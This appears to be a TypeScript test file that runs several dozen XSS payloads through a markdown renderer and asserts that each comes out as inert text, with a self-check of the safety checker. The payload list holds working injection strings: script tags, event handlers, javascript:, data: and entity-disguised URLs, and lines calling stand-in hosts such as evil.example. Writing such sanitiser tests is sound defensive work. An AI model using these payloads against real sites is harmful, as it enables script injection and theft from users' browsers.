import { renderMarkdown } from './render-markdown';
import { unsafeParts, withoutAttributeValues } from './inert-html.testing';

/**
 * Payloads an author (or someone who took over an account) might put in a finding, a report
 * summary or a harvest narrative. Each must come out as text, never as markup that runs.
 */
const PAYLOADS: [string, string][] = [
  ['script tag', '<script>alert(1)</script>'],
  ['script tag, upper case, external source', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['script split to dodge filters', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script inside strong', '**<script>**alert(1)'],
  ['html comment hiding a script', '<!--<script>alert(1)//-->'],
  ['entity-escaped script', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['null byte before a script', '\u0000<script>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg with nested script', '<svg><script>alert(1)</script></svg>'],
  ['iframe', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>">'],
  ['style element', '<style>body{display:none}</style>'],
  ['style attribute', '<div style="background:url(javascript:alert(1))">x</div>'],
  ['event handler on a link', '<a href="https://x.nl" onclick="alert(1)">x</a>'],
  ['event handler on body', '<body onload=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['object', '<object data="javascript:alert(1)">'],
  ['embed', '<embed src=javascript:alert(1)>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="javascript:/">'],
  ['form action', '<form action=javascript:alert(1)><button>x</button></form>'],
  ['mathml link', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['html anchor with javascript', '<a href="javascript:alert(1)">x</a>'],
  ['markdown javascript link', '[x](javascript:alert(1))'],
  ['mixed case', '[x](JaVaScRiPt:alert(1))'],
  ['newline inside the scheme', '[x](java\nscript:alert(1))'],
  ['tab inside the scheme', '[x](java\tscript:alert(1))'],
  ['percent-encoded newline', '[x](java%0ascript:alert(1))'],
  ['decimal entity', '[x](&#106;avascript:alert(1))'],
  ['hex entity', '[x](&#x6A;avascript:alert(1))'],
  ['named entity colon', '[x](javascript&colon;alert(1))'],
  ['entity without semicolon', '[x](&#0000106avascript:alert(1))'],
  ['leading spaces', '[x](   javascript:alert(1))'],
  ['angle-bracket destination', '[x](<javascript:alert(1)>)'],
  ['backslash escape', '[x](javascript\\:alert(1))'],
  ['vbscript', '[x](vbscript:msgbox(1))'],
  ['data URL', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['data URL, upper case', '[x](DATA:text/html,<script>alert(1)</script>)'],
  ['file URL', '[x](file:///etc/passwd)'],
  ['autolink javascript', '<javascript:alert(1)>'],
  ['autolink, upper case', '<JAVASCRIPT:alert(1)>'],
  ['autolink data', '<data:text/html,<script>alert(1)</script>>'],
  ['bare javascript text', 'javascript:alert(1)'],
  ['reference-style link', '[klik][r]\n\n[r]: javascript:alert(1)'],
  ['reference with entity', '[klik][r]\n\n[r]: &#106;avascript:alert(1)'],
  ['image with javascript source', '![x](javascript:alert(1))'],
  ['image alt breaking out of the attribute', '![x" onerror="alert(1)](https://x.nl/y.png)'],
  ['image as tracking pixel', '![](https://tracker.example/p.gif?user=1)'],
  ['link title breaking out of the attribute', '[x](https://x.nl "t\\" onmouseover=\\"alert(1)")'],
  ['quote inside the destination', '[x](https://x.nl"onclick="alert(1))'],
  ['html inside link text', '[<img src=x onerror=alert(1)>](https://x.nl)'],
  ['code fence closing its code element', '```\n</code><script>alert(1)</script>\n```'],
  ['fence info breaking out of the class', '```js" onmouseover="alert(1)\ncode\n```'],
  ['table cell', '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |'],
  ['heading', '# <svg onload=alert(1)>'],
  ['list item', '- <iframe src=//evil.example>'],
];

describe('renderMarkdown renders XSS payloads inert', () => {
  it.each(PAYLOADS)('%s', (_name, payload) => {
    const output = renderMarkdown(payload);
    expect(unsafeParts(output)).toEqual([]);
    expect(output).not.toMatch(/<script|<img|<iframe|<svg|<style/i);
    expect(withoutAttributeValues(output)).not.toMatch(/<[^>]*\son\w+=/i);
    for (const [, href] of output.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(https?:\/\/|mailto:)/i);
  });

  it('the checker itself flags unsafe markup, so a pass above means something', () => {
    expect(unsafeParts('<p>ok</p>')).toEqual([]);
    expect(unsafeParts('<script>alert(1)</script>')).not.toEqual([]);
    expect(unsafeParts('<p onclick="x">a</p>')).not.toEqual([]);
    expect(unsafeParts('<a href="javascript:alert(1)">x</a>')).not.toEqual([]);
    expect(unsafeParts('<img src=x onerror=alert(1)>')).not.toEqual([]);
    expect(unsafeParts('<p style="color:red">a</p>')).not.toEqual([]);
    expect(unsafeParts('<a href="https://x.nl" title="t&quot; onclick=&quot;x">a</a>')).toEqual([]);
  });

  it('keeps the text of a payload visible, so readers see what was typed', () => {
    expect(renderMarkdown('<script>alert(1)</script>')).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n');
  });
});
